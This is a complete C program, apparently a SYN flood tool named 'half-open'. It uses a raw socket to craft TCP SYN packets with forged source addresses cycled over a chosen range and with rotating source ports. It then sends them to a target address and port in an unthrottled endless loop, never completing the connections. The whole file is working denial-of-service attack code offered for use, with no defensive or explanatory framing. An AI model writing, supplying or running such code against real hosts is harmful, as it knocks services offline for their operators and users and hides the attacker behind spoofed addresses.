/*
 * half-open ADDRESS PORT SOURCE STEP SOURCES: begins TCP connections and says no more, until it is ended: packets made by hand, from SOURCE and on by STEP
 * addresses, SOURCES of them again and again, and from ever another port.
 */
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

struct checked {
	in_addr_t source, destination;
	uint16_t protocol, length;
	struct tcphdr tcp;
};

static uint16_t checksum(const struct checked *checked)
{
	uint16_t words[sizeof *checked / 2];
	uint32_t sum = 0;

	memcpy(words, checked, sizeof words);
	for (size_t i = 0; i < sizeof words / sizeof words[0]; i++)
		sum += words[i];
	while (sum >> 16 != 0)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

int main(int argc, char **argv)
{
	struct sockaddr_in server = { .sin_family = AF_INET };
	struct in_addr first;
	const int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);

	if (argc != 6 || fd < 0 || inet_pton(AF_INET, argv[1], &server.sin_addr) != 1 || inet_pton(AF_INET, argv[3], &first) != 1 || strtoul(argv[5], NULL, 10) == 0) {
		fputs("usage: half-open ADDRESS PORT SOURCE STEP SOURCES\n", stderr);
		return 64;
	}
	const unsigned long step = strtoul(argv[4], NULL, 10), sources = strtoul(argv[5], NULL, 10);
	for (unsigned long i = 0;; i++) {
		unsigned char packet[sizeof(struct iphdr) + sizeof(struct tcphdr)];
		struct checked checked = { .source = htonl((uint32_t)(ntohl(first.s_addr) + i % sources * step)), .destination = server.sin_addr.s_addr,
					   .protocol = htons(IPPROTO_TCP), .length = htons(sizeof checked.tcp) };
		const struct iphdr ip = { .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP, .saddr = checked.source, .daddr = checked.destination,
					  .tot_len = htons(sizeof packet) };

		checked.tcp = (struct tcphdr){ .source = htons((uint16_t)(1024 + i % 60000)), .dest = htons((uint16_t)atoi(argv[2])), .seq = htonl((uint32_t)i),
					       .doff = 5, .syn = 1, .window = htons(1024) };
		checked.tcp.check = checksum(&checked);
		memcpy(packet, &ip, sizeof ip);
		memcpy(packet + sizeof ip, &checked.tcp, sizeof checked.tcp);
		/* one that the kernel has no room for is as good as lost */
		(void)!sendto(fd, packet, sizeof packet, 0, (const struct sockaddr *)&server, sizeof server);
	}
}
